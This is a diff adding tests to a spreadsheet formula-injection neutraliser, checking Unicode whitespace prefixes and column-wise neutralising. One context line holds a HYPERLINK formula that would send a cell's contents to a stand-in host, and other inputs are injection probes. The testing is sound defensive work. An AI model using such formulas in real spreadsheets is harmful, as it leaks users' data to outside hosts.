@@ -95,3 +95,17 @@ def test_a_sheet_written_through_the_neutraliser_has_no_formula_cell() -> None:
     assert (a.data_type, a.value) == ("s", '\'=HYPERLINK("http://x"&D2,"x")')
     assert (b.data_type, b.value) == ("n", -3)
     assert c.value == "Nguyễn"
+
+
+def test_every_unicode_white_space_is_a_start_the_quick_filter_looks_at() -> None:
+    # Given every character Python calls white space (LibreOffice trims them before reading a formula)
+    spaces = [chr(c) for c in range(0x110000) if chr(c).isspace()]
+    # When / Then each is in the quick filter, so "<space>=1+1" is never passed over
+    assert [c for c in spaces if cells.neutralise(c + "=1+1") != "'" + c + "=1+1"] == []
+
+
+def test_a_column_is_neutralised_like_each_of_its_values() -> None:
+    values = ["Nguyễn Văn An", "=1+1", "\u3000@x", "-5", "'=a", ""]
+    assert cells.column(values) == [cells.neutralise(v) for v in values]
+    assert cells.column(["An", "Bình"]) == ["An", "Bình"]
+    assert cells.column([1, "=a"]) == [1, "'=a"]
